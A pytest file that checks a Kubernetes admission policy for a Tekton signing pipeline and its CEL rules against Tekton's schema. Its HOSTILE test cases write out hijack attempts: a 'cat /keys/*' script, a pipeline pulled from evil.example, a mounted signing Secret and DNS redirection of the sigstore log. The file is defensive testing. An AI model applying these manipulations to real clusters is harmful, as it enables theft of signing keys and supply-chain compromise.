"""hardening/admission-policy.yaml: the listener may create the watcher's PipelineRun and nothing else.

The ValidatingAdmissionPolicy's CEL is evaluated here with cel-python the way the API server applies
it: the match constraints and conditions pick the request, then every validation must be true. An
expression that fails to evaluate would deny too (``failurePolicy: Fail``), so the tests also hold
every rule to true-or-false, never an error, to keep the denial message ours. The allowed object is the
PipelineRun the TriggerTemplate renders (with the commented keyless workspace switched on); each
refused one is a way a taken-over listener could run code as ``chainmail-signer``. The e2e workflow
applies the policy to a real API server, which type-checks it and enforces it.
"""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from catalog_support import PIPELINES, load_docs

celpy = pytest.importorskip("celpy", reason="cel-python (extra 'policy') evaluates the policy's CEL")

WATCHER = PIPELINES / "chainmail-watcher"
POLICY_FILE = WATCHER / "hardening" / "admission-policy.yaml"
LISTENER = "system:serviceaccount:chainmail:chainmail-listener"


def _policy() -> dict[str, Any]:
    (policy,) = [d.obj for d in load_docs(POLICY_FILE) if d.kind == "ValidatingAdmissionPolicy"]
    return policy


def _evaluate(expression: str, activation: dict[str, Any]) -> bool | str:
    """True/False, or the evaluation error's text (which the API server treats as a failure)."""
    env = celpy.Environment()
    try:
        program = env.program(env.compile(expression))
        result = program.evaluate(celpy.json_to_cel(activation))
    except celpy.CELEvalError as exc:
        return f"error: {exc}"
    if isinstance(result, celpy.CELEvalError):
        return f"error: {result}"
    return bool(result)


def admit(obj: dict[str, Any], *, user: str = LISTENER, namespace: str = "chainmail",
          resource: str = "pipelineruns", operation: str = "CREATE") -> list[str]:
    """The messages of the validations that deny ``obj``; [] when admitted (or when the policy does not apply)."""
    spec = _policy()["spec"]
    rule_matches = any(
        "tekton.dev" in rule["apiGroups"] and resource in rule["resources"] and operation in rule["operations"]
        for rule in spec["matchConstraints"]["resourceRules"])
    selector = spec["matchConstraints"]["namespaceSelector"]["matchLabels"]
    if not rule_matches or selector != {"kubernetes.io/metadata.name": namespace}:
        return []
    activation = {"object": obj, "oldObject": None,
                  "request": {"userInfo": {"username": user}, "namespace": namespace, "operation": operation,
                              "resource": {"group": "tekton.dev", "version": "v1", "resource": resource}}}
    for condition in spec.get("matchConditions", []):
        if _evaluate(condition["expression"], activation) is not True:
            return []
    outcomes = [(v["message"], _evaluate(v["expression"], activation)) for v in spec["validations"]]
    # an evaluation error would deny too (failurePolicy: Fail), but with the API server's text, not ours
    assert [o for _, o in outcomes if isinstance(o, str)] == [], "every rule is total: true or false, never an error"
    return [message for message, outcome in outcomes if outcome is not True]


def rendered_pipelinerun(*, keyless: bool = True) -> dict[str, Any]:
    """The TriggerTemplate's PipelineRun with params filled in, as Triggers submits it."""
    text = (WATCHER / "triggers.yaml").read_text()
    if keyless:  # the documented way to turn keyless on: uncomment the oidc-token workspace
        text = re.sub(r"^(\s*)# ( *)(- name: oidc-token|projected:|sources:|- serviceAccountToken:|"
                      r"audience: sigstore|expirationSeconds: 600|path: oidc-token)$",
                      r"\1\2\3", text, flags=re.M)
    (template,) = [d for d in yaml.safe_load_all(text) if d and d["kind"] == "TriggerTemplate"]
    (pr,) = template["spec"]["resourcetemplates"]
    values = {"kind": "taskrun", "name": "build", "namespace": "team-a",
              "uid": "6c1f4e2a-0d59-4b43-9d4c-0f8b7c1f0a11", "event-type": "dev.tekton.event.taskrun.successful.v1"}
    rendered = yaml.safe_dump(pr)
    rendered = re.sub(r"\$\(tt\.params\.([a-z-]+)\)", lambda m: values[m.group(1)], rendered)
    obj: dict[str, Any] = yaml.safe_load(rendered)
    obj["metadata"]["namespace"] = "chainmail"
    return obj


def test_the_trigger_templates_pipelinerun_is_admitted() -> None:
    pr = rendered_pipelinerun()
    assert {w["name"] for w in pr["spec"]["workspaces"]} == {"namespace-keys", "dockerconfig", "ssl-ca-directory",
                                                               "oidc-token"}
    assert admit(pr) == []
    assert admit(rendered_pipelinerun(keyless=False)) == []


def test_every_workspace_the_pipeline_declares_is_known_to_the_policy() -> None:
    """A workspace added to the Pipeline (and bound by triggers.yaml) must be added to the policy too."""
    (pipeline,) = [d.obj for d in load_docs(WATCHER / "chainmail-watcher.yaml") if d.kind == "Pipeline"]
    (rule,) = [v["expression"] for v in _policy()["spec"]["validations"] if "workspaces" in v["expression"]]
    assert set(re.findall(r"w\.name == '([a-z-]+)'", rule)) == {w["name"] for w in pipeline["spec"]["workspaces"]}


def _with(change: Any) -> dict[str, Any]:
    pr = copy.deepcopy(rendered_pipelinerun())
    change(pr)
    return pr


HOSTILE: dict[str, Any] = {
    "inline pipelineSpec": lambda pr: (pr["spec"].pop("pipelineRef"), pr["spec"].update(pipelineSpec={"tasks": [
        {"name": "x", "taskSpec": {"steps": [{"name": "x", "image": "busybox", "script": "cat /keys/*"}]}}]})),
    "another Pipeline": lambda pr: pr["spec"]["pipelineRef"].update(name="debug"),
    "a remote Pipeline": lambda pr: pr["spec"].update(pipelineRef={"resolver": "bundles", "params": [
        {"name": "bundle", "value": "evil.example/p:1"}, {"name": "name", "value": "chainmail-watcher"}]}),
    "a resolver beside the name": lambda pr: pr["spec"]["pipelineRef"].update(resolver="git"),
    "taskRunSpecs": lambda pr: pr["spec"].update(taskRunSpecs=[{"pipelineTaskName": "sign",
                                                                 "serviceAccountName": "default"}]),
    "no ServiceAccount": lambda pr: pr["spec"]["taskRunTemplate"].pop("serviceAccountName"),
    "another ServiceAccount": lambda pr: pr["spec"]["taskRunTemplate"].update(serviceAccountName="pipeline"),
    "env in the pod template": lambda pr: pr["spec"]["taskRunTemplate"]["podTemplate"].update(
        env=[{"name": "BASH_ENV", "value": "/proc/self/environ"}]),
    "volumes in the pod template": lambda pr: pr["spec"]["taskRunTemplate"]["podTemplate"].update(
        volumes=[{"name": "keys", "secret": {"secretName": "signing-secrets"}}]),
    "hostNetwork": lambda pr: pr["spec"]["taskRunTemplate"]["podTemplate"].update(hostNetwork=True),
    "the keys as the docker config": lambda pr: pr["spec"]["workspaces"][1].update(
        secret={"secretName": "signing-secrets"}),
    "an extra workspace": lambda pr: pr["spec"]["workspaces"].append(
        {"name": "extra", "secret": {"secretName": "signing-secrets"}}),
    "a Secret in the projected token": lambda pr: pr["spec"]["workspaces"][3]["projected"]["sources"].append(
        {"secret": {"name": "signing-secrets"}}),
    "a token for another audience": lambda pr: pr["spec"]["workspaces"][3]["projected"]["sources"][0][
        "serviceAccountToken"].update(audience="https://kubernetes.default.svc"),
    "a workspace from a PVC": lambda pr: pr["spec"]["workspaces"][0].update(
        persistentVolumeClaim={"claimName": "loot"}),
    "a subPath of the docker config": lambda pr: pr["spec"]["workspaces"][1].update(subPath="../"),
    "resolver params on the Pipeline": lambda pr: pr["spec"]["pipelineRef"].update(
        params=[{"name": "url", "value": "https://evil.example/p.git"}]),
    "an apiVersion on the Pipeline": lambda pr: pr["spec"]["pipelineRef"].update(apiVersion="example.dev/v1"),
    "host aliases": lambda pr: pr["spec"]["taskRunTemplate"]["podTemplate"].update(
        hostAliases=[{"ip": "203.0.113.7", "hostnames": ["rekor.sigstore.dev"]}]),
    "a DNS config": lambda pr: pr["spec"]["taskRunTemplate"]["podTemplate"].update(
        dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.7"]}),
    "a config map in the projected token": lambda pr: pr["spec"]["workspaces"][3]["projected"]["sources"].append(
        {"configMap": {"name": "chainmail-config"}}),
    "a token source without a token": lambda pr: pr["spec"]["workspaces"][3]["projected"].update(
        sources=[{"downwardAPI": {"items": []}}]),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_pipelinerun_that_would_run_other_code_as_the_signer_is_refused(case: str) -> None:
    pr = _with(HOSTILE[case])
    denied = admit(pr)
    assert denied, case
    assert all(message.startswith("the chainmail listener") for message in denied)


def test_taskruns_are_left_to_rbac_which_refuses_them() -> None:
    """The policy is written against the PipelineRun schema only; the listener cannot create TaskRuns at all."""
    from rbac_model import Rbac

    rules = _policy()["spec"]["matchConstraints"]["resourceRules"]
    assert [r["resources"] for r in rules] == [["pipelineruns"]]
    rbac = Rbac.from_files()
    listener = ("chainmail", "chainmail-listener")
    assert rbac.allows(listener, "create", "tekton.dev", "pipelineruns", "chainmail")
    for namespace in ("chainmail", "team-a"):
        assert not rbac.allows(listener, "create", "tekton.dev", "taskruns", namespace)


def test_nobody_else_is_affected() -> None:
    inline = _with(HOSTILE["inline pipelineSpec"])
    assert admit(inline, user="system:serviceaccount:chainmail:chainmail-signer") == []
    assert admit(inline, user="kubernetes-admin") == []
    assert admit(inline, namespace="team-a") == []
    assert admit(inline) != []


def test_the_binding_denies() -> None:
    (binding,) = [d.obj for d in load_docs(POLICY_FILE) if d.kind == "ValidatingAdmissionPolicyBinding"]
    policy = _policy()
    assert binding["spec"] == {"policyName": policy["metadata"]["name"], "validationActions": ["Deny"]}
    assert policy["spec"]["failurePolicy"] == "Fail"


# ------------------------------------------------------------------ what the API server type-checks

def _v1_pipelinerun_schema(shared: Path) -> dict[str, Any]:
    crd = yaml.safe_load((shared / "schemas" / "tekton-pipeline" / "300-pipelinerun.yaml").read_text())
    (v1,) = [v for v in crd["spec"]["versions"] if v["name"] == "v1"]
    return v1["schema"]["openAPIV3Schema"]


def _walk(node: dict[str, Any], fields: list[str], where: str) -> dict[str, Any] | None:
    """The schema node at ``fields`` below ``node``; None once a node is schemaless (dyn to CEL)."""
    for name in fields:
        if node.get("x-kubernetes-preserve-unknown-fields"):
            return None
        props = node.get("properties") or {}
        assert name in props, f"{where}: Tekton's v1 PipelineRun schema has no field {name!r} here"
        node = props[name]
    return None if node.get("x-kubernetes-preserve-unknown-fields") else node


def test_every_field_the_rules_name_is_in_tektons_v1_schema_and_only_lists_are_iterated(shared: Path) -> None:
    """What the API server's type check refuses: an undeclared field, or ``all()`` over an object.

    Rules that failed it would be errors at admission, and with ``failurePolicy: Fail`` every
    PipelineRun the listener makes would be refused: the watcher would stop signing.
    """
    root = _v1_pipelinerun_schema(shared)
    for rule in _policy()["spec"]["validations"]:
        expression = rule["expression"]
        bound: dict[str, dict[str, Any] | None] = {"object": root}
        for ref in re.finditer(r"\b([a-z]\w*)((?:\.[A-Za-z]\w*)+)(\()?", expression):
            var, path, call = ref.group(1), ref.group(2).split(".")[1:], ref.group(3)
            if var not in bound and var != "request":
                # a comprehension variable is bound by the .all( that precedes it
                raise AssertionError(f"{expression}: unknown variable {var!r}")
            if var == "request":
                continue
            if call:  # x.y.all(v, ...): x.y must be a list; v is then one of its items
                method = path.pop()
                assert method == "all", f"{expression}: only all() is used"
                node = _walk(bound[var], path, expression) if bound[var] is not None else None
                assert node is None or node.get("type") == "array", f"{expression}: all() over a non-list {path}"
                name = re.match(r"\s*(\w+)\s*,", expression[ref.end():])
                assert name is not None
                bound[name.group(1)] = None if node is None else node.get("items", {})
                continue
            if bound[var] is not None:
                _walk(bound[var], path, expression)


def test_the_policy_names_tektons_pod_template_fields_it_refuses(shared: Path) -> None:
    """The pod-template rule refuses env, volumes and the host/DNS settings; every other field only places pods."""
    pod = _v1_pipelinerun_schema(shared)["properties"]["spec"]["properties"]["taskRunTemplate"]["properties"]["podTemplate"]
    (rule,) = [v["expression"] for v in _policy()["spec"]["validations"] if "podTemplate.env" in v["expression"]]
    refused = set(re.findall(r"!has\(object\.spec\.taskRunTemplate\.podTemplate\.(\w+)\)", rule))
    assert refused == {"env", "volumes", "hostNetwork", "hostAliases", "dnsPolicy", "dnsConfig"}
    placing = {"affinity", "nodeSelector", "tolerations", "topologySpreadConstraints", "priorityClassName",
               "schedulerName", "runtimeClassName", "securityContext", "imagePullSecrets", "enableServiceLinks",
               "automountServiceAccountToken", "hostUsers"}
    # a field Tekton adds to its pod template fails here until someone decides which side it is on
    assert set(pod["properties"]) == refused | placing
